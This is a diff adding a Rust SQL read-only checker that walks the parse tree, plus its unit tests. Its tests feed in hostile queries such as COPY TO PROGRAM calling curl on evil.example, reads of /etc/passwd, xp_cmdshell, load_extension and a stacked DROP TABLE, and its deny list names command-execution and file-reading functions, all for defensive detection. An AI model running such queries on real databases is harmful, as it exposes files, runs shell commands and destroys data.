@@ -1,0 +1,524 @@
+//! A read-only policy, checked on the syntax tree (not with regular expressions, so a column
+//! named `sleep` or a string saying `DROP TABLE` is not flagged).
+//!
+//! A query passes when it is exactly one statement, a query, that reads: no DDL, DML, DCL,
+//! transaction or session statements, no data-modifying CTEs, no `SELECT ... INTO`, no locking
+//! reads, and no call to a function that sleeps, touches files, runs programs or reaches other
+//! servers. Text that does not parse fails: what cannot be read cannot be trusted.
+
+use std::ops::ControlFlow;
+
+use serde::Serialize;
+use sqlparser::ast::{
+    CopyTarget, Expr, ObjectName, Query, Select, Statement, TableFactor, Visit, Visitor,
+};
+
+use super::{ParseLimits, SqlDialect, parse};
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum ViolationKind {
+    Unparseable,
+    MultipleStatements,
+    Ddl,
+    Dml,
+    Dcl,
+    Transaction,
+    Session,
+    DatabaseAttachment,
+    ProcedureCall,
+    OtherStatement,
+    DataModifyingCte,
+    SelectInto,
+    LockingRead,
+    DangerousFunction,
+    ProgramExecution,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize)]
+pub struct Violation {
+    pub kind: ViolationKind,
+    pub reason: String,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize)]
+pub struct SafetyReport {
+    pub safe: bool,
+    pub violations: Vec<Violation>,
+}
+
+/// Checks `sql` against the read-only policy.
+pub fn check_read_only(sql: &str, dialect: SqlDialect, limits: ParseLimits) -> SafetyReport {
+    let statements = match parse(sql, dialect, limits) {
+        Ok(statements) => statements,
+        Err(err) => {
+            return report(vec![Violation {
+                kind: ViolationKind::Unparseable,
+                reason: format!(
+                    "The query cannot be parsed, so it cannot be shown to be safe ({err})"
+                ),
+            }]);
+        }
+    };
+    let mut checker = Checker {
+        dialect,
+        violations: Vec::new(),
+        depth: 0,
+    };
+    if statements.len() > 1 {
+        checker.flag(
+            ViolationKind::MultipleStatements,
+            format!(
+                "{} statements in one query: only one is allowed",
+                statements.len()
+            ),
+        );
+    }
+    for statement in &statements {
+        let _ = statement.visit(&mut checker);
+    }
+    report(checker.violations)
+}
+
+fn report(violations: Vec<Violation>) -> SafetyReport {
+    SafetyReport {
+        safe: violations.is_empty(),
+        violations,
+    }
+}
+
+struct Checker {
+    dialect: SqlDialect,
+    violations: Vec<Violation>,
+    /// Statements being visited: above 1, a statement is nested in a query (a CTE).
+    depth: usize,
+}
+
+impl Checker {
+    fn flag(&mut self, kind: ViolationKind, reason: String) {
+        if !self
+            .violations
+            .iter()
+            .any(|v| v.kind == kind && v.reason == reason)
+        {
+            self.violations.push(Violation { kind, reason });
+        }
+    }
+
+    fn check_function(&mut self, name: &ObjectName) {
+        let full = name
+            .to_string()
+            .to_lowercase()
+            .replace(['"', '`', '[', ']'], "");
+        let last = full.rsplit('.').next().unwrap_or_default().to_string();
+        for rule in DANGEROUS {
+            let dialect_applies = rule.dialects.is_empty()
+                || self.dialect == SqlDialect::Generic
+                || rule.dialects.contains(&self.dialect);
+            let matches = rule.names.iter().any(|n| *n == last || *n == full)
+                || rule.prefix.is_some_and(|p| last.starts_with(p));
+            if dialect_applies && matches {
+                self.flag(
+                    ViolationKind::DangerousFunction,
+                    format!("Calls {full}(), which {}", rule.why),
+                );
+            }
+        }
+    }
+}
+
+/// The first words of a statement's SQL, which name its kind (`CREATE TABLE`, `GRANT`, ...).
+fn statement_kind(statement: &Statement) -> (ViolationKind, String) {
+    let text = statement.to_string();
+    let words: Vec<String> = text
+        .split_whitespace()
+        .take(2)
+        .map(|w| w.to_uppercase())
+        .collect();
+    let first = words.first().map(String::as_str).unwrap_or_default();
+    let what = words.join(" ");
+    let kind = match first {
+        "CREATE" | "ALTER" | "DROP" | "TRUNCATE" | "RENAME" | "COMMENT" | "VACUUM" | "ANALYZE"
+        | "REINDEX" | "CLUSTER" => ViolationKind::Ddl,
+        "INSERT" | "UPDATE" | "DELETE" | "MERGE" | "REPLACE" | "UPSERT" | "COPY" | "LOAD"
+        | "UNLOAD" | "PUT" | "REMOVE" => ViolationKind::Dml,
+        "GRANT" | "REVOKE" | "DENY" => ViolationKind::Dcl,
+        "BEGIN" | "START" | "COMMIT" | "ROLLBACK" | "SAVEPOINT" | "RELEASE" | "END" | "ABORT"
+        | "LOCK" | "UNLOCK" => ViolationKind::Transaction,
+        "SET" | "USE" | "RESET" | "DISCARD" | "DECLARE" | "PREPARE" | "DEALLOCATE" => {
+            ViolationKind::Session
+        }
+        "ATTACH" | "DETACH" | "INSTALL" => ViolationKind::DatabaseAttachment,
+        "CALL" | "EXEC" | "EXECUTE" => ViolationKind::ProcedureCall,
+        _ => ViolationKind::OtherStatement,
+    };
+    let label = match kind {
+        ViolationKind::Ddl => "changes the schema (DDL)",
+        ViolationKind::Dml => "changes data (DML)",
+        ViolationKind::Dcl => "changes permissions (DCL)",
+        ViolationKind::Transaction => "controls transactions or locks",
+        ViolationKind::Session => "changes the session",
+        ViolationKind::DatabaseAttachment => "attaches a database or extension",
+        ViolationKind::ProcedureCall => "runs a procedure",
+        _ => "is not a read-only query",
+    };
+    (kind, format!("{what} {label}"))
+}
+
+impl Visitor for Checker {
+    type Break = ();
+
+    fn pre_visit_statement(&mut self, statement: &Statement) -> ControlFlow<()> {
+        self.depth += 1;
+        match statement {
+            Statement::Query(_) => {}
+            Statement::Copy {
+                target: CopyTarget::Program { command },
+                ..
+            } => {
+                self.flag(
+                    ViolationKind::ProgramExecution,
+                    format!("COPY ... PROGRAM runs a shell command ({command:?})"),
+                );
+            }
+            other => {
+                let (kind, reason) = statement_kind(other);
+                if self.depth > 1 {
+                    self.flag(
+                        ViolationKind::DataModifyingCte,
+                        format!("A statement inside the query {reason}"),
+                    );
+                } else {
+                    self.flag(kind, reason);
+                }
+            }
+        }
+        ControlFlow::Continue(())
+    }
+
+    fn post_visit_statement(&mut self, _statement: &Statement) -> ControlFlow<()> {
+        self.depth -= 1;
+        ControlFlow::Continue(())
+    }
+
+    fn pre_visit_query(&mut self, query: &Query) -> ControlFlow<()> {
+        // A query nested in a statement: statements met below it are inside the query.
+        self.depth += 1;
+        if !query.locks.is_empty() {
+            self.flag(
+                ViolationKind::LockingRead,
+                "FOR UPDATE/SHARE takes row locks".to_string(),
+            );
+        }
+        ControlFlow::Continue(())
+    }
+
+    fn post_visit_query(&mut self, _query: &Query) -> ControlFlow<()> {
+        self.depth -= 1;
+        ControlFlow::Continue(())
+    }
+
+    fn pre_visit_select(&mut self, select: &Select) -> ControlFlow<()> {
+        if let Some(into) = &select.into {
+            self.flag(
+                ViolationKind::SelectInto,
+                format!("SELECT ... {into} writes a new table"),
+            );
+        }
+        ControlFlow::Continue(())
+    }
+
+    fn pre_visit_expr(&mut self, expr: &Expr) -> ControlFlow<()> {
+        if let Expr::Function(function) = expr {
+            self.check_function(&function.name);
+        }
+        ControlFlow::Continue(())
+    }
+
+    fn pre_visit_table_factor(&mut self, factor: &TableFactor) -> ControlFlow<()> {
+        match factor {
+            TableFactor::Table {
+                name,
+                args: Some(_),
+                ..
+            }
+            | TableFactor::Function { name, .. } => self.check_function(name),
+            _ => {}
+        }
+        ControlFlow::Continue(())
+    }
+}
+
+struct Rule {
+    names: &'static [&'static str],
+    prefix: Option<&'static str>,
+    /// Where the function exists; empty means everywhere.
+    dialects: &'static [SqlDialect],
+    why: &'static str,
+}
+
+use SqlDialect::{Bigquery, Duckdb, Mssql, Mysql, Postgres, Snowflake, Sqlite};
+
+const DANGEROUS: &[Rule] = &[
+    Rule {
+        names: &["sleep", "benchmark"],
+        prefix: None,
+        dialects: &[Mysql],
+        why: "stalls the server (a timing attack)",
+    },
+    Rule {
+        names: &["pg_sleep", "pg_sleep_for", "pg_sleep_until"],
+        prefix: None,
+        dialects: &[Postgres],
+        why: "stalls the server (a timing attack)",
+    },
+    Rule {
+        names: &["dbms_lock.sleep", "dbms_session.sleep"],
+        prefix: None,
+        dialects: &[],
+        why: "stalls the server (a timing attack)",
+    },
+    Rule {
+        names: &["system$wait"],
+        prefix: None,
+        dialects: &[Snowflake],
+        why: "stalls the server (a timing attack)",
+    },
+    Rule {
+        names: &["load_file"],
+        prefix: None,
+        dialects: &[Mysql],
+        why: "reads files on the server",
+    },
+    Rule {
+        names: &[
+            "pg_read_file",
+            "pg_read_binary_file",
+            "pg_ls_dir",
+            "pg_stat_file",
+            "lo_import",
+            "lo_export",
+            "pg_ls_logdir",
+            "pg_ls_waldir",
+        ],
+        prefix: None,
+        dialects: &[Postgres],
+        why: "reads or writes files on the server",
+    },
+    Rule {
+        names: &["readfile", "writefile", "fsdir", "edit", "load_extension"],
+        prefix: None,
+        dialects: &[Sqlite],
+        why: "touches files or loads native code",
+    },
+    Rule {
+        names: &[
+            "read_csv",
+            "read_csv_auto",
+            "read_parquet",
+            "read_json",
+            "read_json_auto",
+            "read_ndjson",
+            "read_text",
+            "read_blob",
+            "glob",
+            "parquet_scan",
+            "sqlite_scan",
+            "postgres_scan",
+            "mysql_scan",
+        ],
+        prefix: None,
+        dialects: &[Duckdb],
+        why: "reads files or other databases",
+    },
+    Rule {
+        names: &[
+            "xp_cmdshell",
+            "xp_dirtree",
+            "xp_fileexist",
+            "xp_regread",
+            "sp_oacreate",
+            "sp_execute_external_script",
+            "openrowset",
+            "opendatasource",
+            "openquery",
+            "openxml",
+        ],
+        prefix: None,
+        dialects: &[Mssql],
+        why: "runs commands, touches files or reaches other servers",
+    },
+    Rule {
+        names: &[
+            "dblink",
+            "dblink_exec",
+            "dblink_connect",
+            "dblink_send_query",
+        ],
+        prefix: None,
+        dialects: &[Postgres],
+        why: "queries another server (dblink)",
+    },
+    Rule {
+        names: &["external_query"],
+        prefix: None,
+        dialects: &[Bigquery],
+        why: "queries another server",
+    },
+    Rule {
+        names: &[],
+        prefix: Some("system$"),
+        dialects: &[Snowflake],
+        why: "is a Snowflake system function",
+    },
+];
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn verdict(dialect: SqlDialect, sql: &str) -> SafetyReport {
+        check_read_only(sql, dialect, ParseLimits::default())
+    }
+
+    fn unsafe_because(dialect: SqlDialect, sql: &str, kind: ViolationKind) {
+        let report = verdict(dialect, sql);
+        assert!(!report.safe, "{sql} passed");
+        assert!(
+            report.violations.iter().any(|v| v.kind == kind),
+            "{sql}: {:?}",
+            report.violations
+        );
+        assert!(report.violations.iter().all(|v| !v.reason.is_empty()));
+    }
+
+    #[test]
+    fn plain_reads_pass() {
+        for sql in [
+            "SELECT * FROM users",
+            "WITH a AS (SELECT 1) SELECT * FROM a",
+            "SELECT sleep, benchmark FROM timings WHERE note = 'DROP TABLE users; --'",
+            "SELECT * FROM drop_log JOIN \"delete\" ON true",
+            "SELECT COUNT(*) FROM orders GROUP BY status HAVING COUNT(*) > 1 ORDER BY 1 LIMIT 5",
+        ] {
+            let report = verdict(SqlDialect::Generic, sql);
+            assert!(report.safe, "{sql}: {:?}", report.violations);
+        }
+    }
+
+    #[test]
+    fn statements_that_write_or_control_fail() {
+        use ViolationKind::*;
+        unsafe_because(SqlDialect::Generic, "DROP TABLE users", Ddl);
+        unsafe_because(SqlDialect::Generic, "CREATE TABLE t (a INT)", Ddl);
+        unsafe_because(SqlDialect::Generic, "ALTER TABLE t ADD COLUMN b INT", Ddl);
+        unsafe_because(SqlDialect::Generic, "TRUNCATE TABLE t", Ddl);
+        unsafe_because(SqlDialect::Generic, "INSERT INTO t VALUES (1)", Dml);
+        unsafe_because(SqlDialect::Generic, "UPDATE t SET a = 1", Dml);
+        unsafe_because(SqlDialect::Generic, "DELETE FROM t", Dml);
+        unsafe_because(SqlDialect::Postgres, "GRANT SELECT ON t TO bob", Dcl);
+        unsafe_because(SqlDialect::Postgres, "REVOKE SELECT ON t FROM bob", Dcl);
+        unsafe_because(SqlDialect::Generic, "BEGIN", Transaction);
+        unsafe_because(SqlDialect::Generic, "COMMIT", Transaction);
+        unsafe_because(SqlDialect::Postgres, "SET search_path TO evil", Session);
+        unsafe_because(
+            SqlDialect::Sqlite,
+            "ATTACH DATABASE '/tmp/x.db' AS x",
+            DatabaseAttachment,
+        );
+        unsafe_because(
+            SqlDialect::Sqlite,
+            "PRAGMA writable_schema = 1",
+            OtherStatement,
+        );
+        unsafe_because(
+            SqlDialect::Generic,
+            "SELECT 1; DROP TABLE users",
+            MultipleStatements,
+        );
+        unsafe_because(SqlDialect::Generic, "SELEC * FROM", Unparseable);
+    }
+
+    #[test]
+    fn writes_hidden_in_queries_fail() {
+        use ViolationKind::*;
+        unsafe_because(
+            SqlDialect::Postgres,
+            "WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone",
+            DataModifyingCte,
+        );
+        unsafe_because(
+            SqlDialect::Postgres,
+            "SELECT * INTO backup FROM users",
+            SelectInto,
+        );
+        unsafe_because(
+            SqlDialect::Postgres,
+            "SELECT * FROM users FOR UPDATE",
+            LockingRead,
+        );
+        unsafe_because(
+            SqlDialect::Postgres,
+            "COPY users TO PROGRAM 'curl evil.example'",
+            ProgramExecution,
+        );
+    }
+
+    #[test]
+    fn dangerous_functions_fail_per_dialect() {
+        use ViolationKind::DangerousFunction;
+        unsafe_because(SqlDialect::Mysql, "SELECT SLEEP(10)", DangerousFunction);
+        unsafe_because(
+            SqlDialect::Mysql,
+            "SELECT BENCHMARK(1000000, MD5('x'))",
+            DangerousFunction,
+        );
+        unsafe_because(
+            SqlDialect::Mysql,
+            "SELECT LOAD_FILE('/etc/passwd')",
+            DangerousFunction,
+        );
+        unsafe_because(
+            SqlDialect::Postgres,
+            "SELECT pg_sleep(5)",
+            DangerousFunction,
+        );
+        unsafe_because(
+            SqlDialect::Postgres,
+            "SELECT pg_read_file('/etc/passwd')",
+            DangerousFunction,
+        );
+        unsafe_because(
+            SqlDialect::Postgres,
+            "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
+            DangerousFunction,
+        );
+        unsafe_because(
+            SqlDialect::Mssql,
+            "SELECT * FROM OPENROWSET('SQLNCLI', 'x', 'SELECT 1')",
+            DangerousFunction,
+        );
+        unsafe_because(
+            SqlDialect::Mssql,
+            "SELECT xp_cmdshell('dir')",
+            DangerousFunction,
+        );
+        unsafe_because(
+            SqlDialect::Sqlite,
+            "SELECT load_extension('evil.so')",
+            DangerousFunction,
+        );
+        unsafe_because(
+            SqlDialect::Sqlite,
+            "SELECT readfile('/etc/passwd')",
+            DangerousFunction,
+        );
+        unsafe_because(
+            SqlDialect::Duckdb,
+            "SELECT * FROM read_csv('/etc/passwd')",
+            DangerousFunction,
+        );
+        // In PostgreSQL there is no sleep(): a user function of that name is not flagged there.
+        assert!(verdict(SqlDialect::Postgres, "SELECT sleep(1)").safe);
+    }
+}
